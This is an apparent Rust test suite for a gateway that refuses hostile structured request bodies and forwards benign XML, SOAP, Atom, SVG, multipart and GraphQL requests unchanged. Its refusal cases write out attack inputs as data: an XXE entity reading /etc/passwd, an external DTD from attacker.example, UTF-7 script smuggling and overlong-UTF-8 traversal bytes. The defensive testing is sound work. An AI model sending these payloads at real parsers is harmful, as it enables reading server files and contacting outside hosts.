//! Structured documents where backends parse them (issue 25), over raw sockets: XML bodies
//! and parts (references, DOCTYPEs, declared encodings, documents that are not XML), and form
//! fields of no type that hold JSON. Each attack is refused with nothing upstream; benign XML,
//! SOAP, Atom and SVG in many scripts, browser and Spring multipart shapes and GraphQL GET
//! queries are forwarded byte for byte; text that is not NFC is forwarded normalized.

use utf8gate_e2e::{exchange, request};

use super::{assert_forwarded, assert_refused, start};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xml_bodies_hiding_bytes_from_an_ascii_reading_are_refused() {
    let (upstream, gw) = start("").await;
    for (ct, body, kind) in [
        ("application/xml", &b"<a>x&#0;y</a>"[..], "nul"),
        ("text/xml", b"<a b='&#x0;'/>", "nul"),
        (
            "application/soap+xml",
            b"<a>&#xD800;</a>",
            "escaped_surrogate",
        ),
        ("application/xml", b"<a>&#1;</a>", "control"),
        (
            "image/svg+xml",
            b"<svg><text>\xC0\xAE\xC0\xAE/</text></svg>",
            "overlong",
        ),
        (
            "application/atom+xml",
            b"<f h='\xED\xA0\x80'/>",
            "surrogate",
        ),
        (
            "application/xml",
            b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
            "xml_doctype",
        ),
        (
            "application/xml",
            b"<!DOCTYPE a SYSTEM 'http://attacker.example/x.dtd'><a/>",
            "xml_doctype",
        ),
        (
            "application/xml",
            b"<?xml version='1.0' encoding='UTF-7'?><a>+ADw-script+AD4-</a>",
            "foreign_charset",
        ),
        (
            "application/xml",
            b"\xEF\xBB\xBF<?xml version='1.0' encoding='UTF-16'?><a/>",
            "foreign_charset",
        ),
        ("application/xml", b"<a/><a>&#0;</a>", "malformed_body"),
        ("application/xml", b"<a/>junk", "malformed_body"),
        ("application/xml", b"<a>&entity;</a>", "malformed_body"),
    ] {
        let sent = request("POST", "/x", &[("Content-Type", ct.as_bytes())], body);
        let what = format!("{ct}: {}", body.escape_ascii());
        assert_refused(&gw, &upstream, &what, &sent, 400, kind).await;
    }
}

fn multipart(head: &str, content: &[u8]) -> Vec<u8> {
    let mut body = format!("--B\r\n{head}\r\n\r\n").into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(b"\r\n--B--\r\n");
    body
}

const MULTIPART: (&str, &[u8]) = ("Content-Type", b"multipart/form-data; boundary=B");

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xml_parts_and_json_form_fields_are_read_as_backends_read_them() {
    let (upstream, gw) = start("").await;
    for (head, content, kind) in [
        (
            "Content-Disposition: form-data; name=\"doc\"\r\nContent-Type: application/xml",
            &b"<a>&#0;</a>"[..],
            "nul",
        ),
        (
            "Content-Disposition: form-data; name=\"svg\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml",
            b"<!DOCTYPE svg [<!ENTITY l 'lol'>]><svg>&l;</svg>",
            "xml_doctype",
        ),
        (
            "Content-Disposition: form-data; name=\"variables\"",
            b"{\"id\":\"\\u0000\"}",
            "nul",
        ),
    ] {
        let sent = request("POST", "/u", &[MULTIPART], &multipart(head, content));
        assert_refused(&gw, &upstream, head, &sent, 400, kind).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn benign_documents_are_forwarded_byte_for_byte() {
    let (upstream, gw) = start("").await;
    let soap = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><m:Order xmlns:m=\"urn:shop\"><m:Name>Zoë Ελληνικά 日本語 العربية हिन्दी 한국어 😀</m:Name><m:Note><![CDATA[a < b & c]]></m:Note></m:Order></soap:Body></soap:Envelope>";
    let atom = "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Новости</title><entry><title type=\"html\">&lt;b&gt;Ünïcödé&lt;/b&gt; &amp; more</title><!-- ข้อความ --></entry></feed>";
    let svg = "<?xml version=\"1.0\" standalone=\"no\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><text x=\"0\" y=\"9\">שלום &#x263A;</text><?inkscape v?></svg>";
    for (ct, body) in [
        ("application/soap+xml; charset=utf-8", soap),
        ("application/atom+xml", atom),
        ("image/svg+xml", svg),
        ("text/xml", "<r a='1' b=\"2\"/>"),
        (
            "application/xml",
            "\u{FEFF}<?xml version='1.0' encoding='UTF-8'?><r>Ωmega Ünïcode</r>",
        ),
    ] {
        let sent = request(
            "POST",
            "/x",
            &[("Content-Type", ct.as_bytes())],
            body.as_bytes(),
        );
        let expected = ("/x", body.as_bytes());
        assert_forwarded(&gw, &upstream, ct, &sent, expected, &[]).await;
    }
    // A browser's FormData with a JSON Blob, and Spring's MockMultipartFile shapes.
    for (head, content) in [
        (
            "Content-Disposition: form-data; name=\"meta\"; filename=\"blob\"\r\nContent-Type: application/json",
            "{\"title\":\"Prüfung\",\"tags\":[\"日本\",\"😀\"]}",
        ),
        (
            "Content-Disposition: form-data; name=\"doc\"\r\nContent-Type: application/xml",
            "<order id=\"7\"><item>café</item></order>",
        ),
        (
            "Content-Disposition: form-data; name=\"variables\"",
            "{\"id\":\"Ω-42\",\"first\":10}",
        ),
    ] {
        let body = multipart(head, content.as_bytes());
        let sent = request("POST", "/u", &[MULTIPART], &body);
        assert_forwarded(&gw, &upstream, head, &sent, ("/u", &body), &[]).await;
    }
    // GraphQL over GET: the variables are JSON inside a query value.
    let target =
        "/graphql?query=%7Buser(id%3A%24id)%7Bname%7D%7D&variables=%7B%22id%22%3A%22%CE%A9%22%7D";
    let sent = request("GET", target, &[], b"");
    assert_forwarded(&gw, &upstream, "graphql", &sent, (target, b""), &[]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xml_text_is_forwarded_in_nfc_and_names_are_not_rewritten() {
    let (upstream, gw) = start("").await;
    let ct = ("Content-Type", &b"application/xml"[..]);
    let sent = request(
        "POST",
        "/x",
        &[ct],
        "<a t='e\u{301}'>Ame\u{301}lie &amp; co</a>".as_bytes(),
    );
    let response = exchange(gw.proxy, &sent).await;
    assert_eq!(response.status, 200, "{}", response.text());
    let got = upstream.records().pop().expect("forwarded");
    assert_eq!(
        got.body,
        "<a t='\u{e9}'>Am\u{e9}lie &amp; co</a>".as_bytes()
    );
    let sent = request("POST", "/x", &[ct], "<cafe\u{301}/>".as_bytes());
    assert_refused(&gw, &upstream, "a name not in NFC", &sent, 400, "not_nfc").await;
}
